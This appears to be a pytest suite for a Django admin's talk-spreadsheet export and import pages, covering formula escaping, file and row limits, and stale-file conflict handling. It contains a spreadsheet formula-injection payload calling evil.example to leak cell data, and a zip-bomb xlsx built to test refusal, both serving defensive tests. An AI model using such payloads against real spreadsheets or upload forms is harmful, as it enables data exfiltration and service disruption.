"""The staff admin's spreadsheet pages, as staff meet them: export, import form, preview."""

import csv
import html
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook

from programme.models import Conference, Talk, validate_code
from programme.spreadsheets import (
    SPREADSHEET_FORMATS,
    SpreadsheetCSV,
    SpreadsheetXLSX,
    TalkResource,
)

pytestmark = pytest.mark.django_db

XLSX, CSV = (str(SPREADSHEET_FORMATS.index(f)) for f in (SpreadsheetXLSX, SpreadsheetCSV))
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'


def export_talks(client, file_format, year=2025) -> bytes:
    year_filter = f"?conference__id__exact={Conference.objects.get(year=year).pk}"
    response = client.post(
        reverse("admin:programme_talk_export") + year_filter,
        {
            "format": file_format,
            "resource": "0",
            "export_items": [],
            **{f"talkresource_{name}": "on" for name in TalkResource().get_export_order()},
        },
    )
    assert response.status_code == 200
    return response.content


def import_page(client, name, data: bytes, file_format) -> str:
    upload = SimpleUploadedFile(name, data)
    response = client.post(
        reverse("admin:programme_talk_import"),
        {"import_file": upload, "format": file_format, "resource": "0"},
    )
    assert response.status_code == 200
    return response.content.decode()


def text_of(page: str) -> str:
    """The page's content as a person reads it."""
    content = page[page.index('id="content"') :]
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", content)).split())


def preview_kinds(page: str) -> list[tuple[str, str]]:
    """(import type, row number) of each row of the preview table, in order."""
    table = page[page.index('class="import-preview"') :]
    return re.findall(
        r'<tr class="(\w+)">\s*<td class="import-type">[^<]*</td>\s*<td>(\d+)</td>', table
    )


def talks_state():
    return sorted(Talk.objects.values_list("conference__year", "code", "title", "session_id"))


def test_exported_title_formula_is_text_in_xlsx_and_quoted_in_csv(staff_client):
    Talk.objects.filter(conference__year=2025, code="A1-2").update(title=FORMULA)

    xlsx = export_talks(staff_client, XLSX)
    csv_text = export_talks(staff_client, CSV).decode("utf-8-sig")

    sheet = load_workbook(io.BytesIO(xlsx)).active
    (title,) = [row[4] for row in sheet.iter_rows() if row[1].value == "A1-2"]
    assert (title.value, title.data_type) == (FORMULA, "s")
    assert '2025,A1-2,A1,2,"\'=HYPERLINK(""http://evil.example/?""&A2,""x"")",' in csv_text


def test_exported_formula_reimports_as_unchanged(staff_client):
    Talk.objects.filter(conference__year=2025, code="A1-2").update(title=FORMULA)
    xlsx = export_talks(staff_client, XLSX)
    csv_data = export_talks(staff_client, CSV)

    pages = [
        import_page(staff_client, "talks.xlsx", xlsx, XLSX),
        import_page(staff_client, "talks.csv", csv_data, CSV),
    ]

    for page in pages:
        kinds = [kind for kind, _number in preview_kinds(page)]
        assert kinds == ["skip"] * 167


def test_bad_talk_code_is_refused_at_its_cell_on_the_import_page(staff_client):
    csv_text = export_talks(staff_client, CSV).decode("utf-8-sig")
    bad = csv_text + "2025,E2/9,A1,9,新报告,张三（北京大学）,否,,,,\r\n"
    before = talks_state()

    page = import_page(staff_client, "talks.csv", bad.encode("utf-8-sig"), CSV)

    text = text_of(page)
    # Excel's row 169 (header row 1, 167 talks in rows 2-168); the message under the cell.
    assert "有错误，未导入任何数据" in text
    assert f"169 2025 E2/9 {validate_code.message} A1 9 新报告" in text
    assert re.search(r'<td class="bad">\s*E2/9\s*<ul class="errorlist"><li>', page)
    assert "None" not in text
    assert 'name="confirm"' not in page
    assert talks_state() == before


@override_settings(IMPORT_MAX_BYTES=10_000)
def test_file_over_the_size_limit_is_refused_before_reading(staff_client):
    data = export_talks(staff_client, CSV)
    before = talks_state()

    page = import_page(staff_client, "talks.csv", data, CSV)

    assert len(data) > 10_000
    assert "文件大小为 172.8 KB，一次最多可导入 9.8 KB。" in text_of(page)
    assert 'class="import-preview"' not in page
    assert talks_state() == before


def test_xlsx_that_unpacks_too_far_is_refused_before_opening(staff_client, settings):
    settings.IMPORT_MAX_BYTES = 100_000
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<" * 3_000_000)
    before = talks_state()

    page = import_page(staff_client, "talks.xlsx", bomb.getvalue(), XLSX)

    assert len(bomb.getvalue()) < 100_000
    assert "文件解压后为 2.9 MB，一次最多可导入 1.9 MB。" in text_of(page)
    assert talks_state() == before


@override_settings(IMPORT_MAX_ROWS=100)
@pytest.mark.parametrize("file_format", [XLSX, CSV], ids=["xlsx", "csv"])
def test_file_over_the_row_limit_is_refused(staff_client, file_format):
    data = export_talks(staff_client, file_format)
    before = talks_state()

    page = import_page(staff_client, "talks", data, file_format)

    assert "文件超过 100 行，请分几次导入。" in text_of(page)
    assert 'class="import-preview"' not in page
    assert talks_state() == before


def test_preview_lists_changed_rows_first_with_their_row_numbers(staff_client):
    rows = list(csv.reader(io.StringIO(export_talks(staff_client, CSV).decode("utf-8-sig"))))
    rows[-1][rows[0].index("线上")] = "是"  # the last talk goes online
    edited = io.StringIO()
    csv.writer(edited).writerows(rows)

    page = import_page(staff_client, "talks.csv", edited.getvalue().encode(), CSV)

    kinds = preview_kinds(page)
    assert kinds[0] == ("update", "168")  # Excel's row: header 1, talks 2-168
    assert kinds[1:] == [("skip", str(number)) for number in range(2, 168)]


def edited_csv(data: bytes, changes: dict[str, dict[str, str]]) -> bytes:
    """The exported CSV with {talk code: {column: new value}} typed in."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    code = rows[0].index("报告编号")
    for row in rows[1:]:
        for column, value in changes.get(row[code], {}).items():
            row[rows[0].index(column)] = value
    edited = io.StringIO()
    csv.writer(edited).writerows(rows)
    return edited.getvalue().encode("utf-8-sig")


def confirm(client, page: str, apply_rows=()):
    """Submit the preview's confirm form, with the conflicting rows ticked."""
    form = page[page.index('id="confirm-import"') :]
    form = form[: form.index("</form>")]
    data = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', form))
    data = {name: html.unescape(value) for name, value in data.items()}
    response = client.post(
        reverse("admin:programme_talk_process_import"), {**data, "apply_row": list(apply_rows)}
    )
    assert response.status_code == 302
    return client.get(response["Location"]).content.decode()  # with its messages


def title(code):
    return Talk.objects.get(conference__year=2025, code=code).title


@pytest.fixture
def stale_file(staff_client):
    """Staff export, retitle A1-1 in the file; meanwhile A1-2 is retitled in the database
    (a save, recorded in its history, as the admin does)."""
    data = export_talks(staff_client, CSV)
    talk = Talk.objects.get(conference__year=2025, code="A1-2")
    talk.title = "数据库里的新标题"
    talk.save()
    return edited_csv(data, {"A1-1": {"题目": "文件里的新标题"}})


def a1_rows():
    """Excel's rows of A1-1 and A1-2 in the 2025 export (header row 1)."""
    codes = list(
        TalkResource().export(Talk.objects.filter(conference__year=2025)).dict[i]["报告编号"]
        for i in range(167)
    )
    return codes.index("A1-1") + 2, codes.index("A1-2") + 2


def test_stale_file_preview_shows_one_change_and_one_conflict_with_both_values(
    staff_client, stale_file
):
    old_a1_2 = Talk.history.filter(code="A1-2", conference__year=2025).order_by("history_id")
    old_a1_2 = old_a1_2.first().title
    a1_1, a1_2 = a1_rows()

    page = import_page(staff_client, "talks.csv", stale_file, CSV)

    assert preview_kinds(page)[0] == ("update", str(a1_1))
    assert [kind for kind, _ in preview_kinds(page)].count("update") == 1
    conflicts = page[page.index('id="import-conflicts"') :]
    text = text_of(page)
    assert "1 行有改动" in text
    assert "1 行在导出后已被他人修改" in text
    assert "165 行未改动" in text
    assert f'name="apply_row" value="{a1_2}"' in conflicts
    row = text_of('id="content"' + conflicts)
    assert f"题目 {old_a1_2} 数据库里的新标题" in row
    assert title("A1-1") != "文件里的新标题"  # a preview changes nothing


def test_confirming_a_stale_file_applies_only_the_rows_not_changed_since(staff_client, stale_file):
    page = import_page(staff_client, "talks.csv", stale_file, CSV)

    done = confirm(staff_client, page)

    assert title("A1-1") == "文件里的新标题"
    assert title("A1-2") == "数据库里的新标题"
    assert f"未应用（导出后已被他人修改）：第 {a1_rows()[1]} 行。" in done


def test_a_conflict_ticked_in_the_preview_is_applied(staff_client, stale_file):
    old_a1_2 = Talk.history.filter(code="A1-2", conference__year=2025).order_by("history_id")
    old_a1_2 = old_a1_2.first().title
    page = import_page(staff_client, "talks.csv", stale_file, CSV)
    _a1_1, a1_2 = a1_rows()

    confirm(staff_client, page, apply_rows=[a1_2])

    assert title("A1-1") == "文件里的新标题"
    assert title("A1-2") == old_a1_2


def test_file_without_the_version_column_imports_as_before(staff_client, stale_file):
    rows = list(csv.reader(io.StringIO(stale_file.decode("utf-8-sig"))))
    version = rows[0].index("导出时版本")
    hand_made = io.StringIO()
    csv.writer(hand_made).writerows([row[:version] + row[version + 1 :] for row in rows])

    page = import_page(staff_client, "talks.csv", hand_made.getvalue().encode(), CSV)
    confirm(staff_client, page)

    assert 'id="import-conflicts"' not in page
    assert title("A1-1") == "文件里的新标题"
    assert title("A1-2") != "数据库里的新标题"  # the file's title, as before this column


def test_typing_in_the_version_column_changes_nothing_but_the_conflict_check(staff_client):
    data = export_talks(staff_client, CSV)
    edited = edited_csv(data, {"A1-1": {"导出时版本": "v000000000000"}})

    page = import_page(staff_client, "talks.csv", edited, CSV)

    assert [kind for kind, _ in preview_kinds(page)] == ["skip"] * 167
    assert 'id="import-conflicts"' not in page


def test_preview_folds_unchanged_rows_and_long_abstracts(staff_client):
    data = export_talks(staff_client, CSV)
    edited = edited_csv(data, {"A1-1": {"摘要": "新的摘要。" * 40}})

    page = import_page(staff_client, "talks.csv", edited, CSV)

    changed, unchanged = page.split('<details class="import-unchanged">')
    assert "166 行未改动的数据" in unchanged[: unchanged.index("</summary>")]
    assert changed.count('<tr class="update">') == 1
    assert "<details><summary>" in changed  # the long abstract, folded to its start
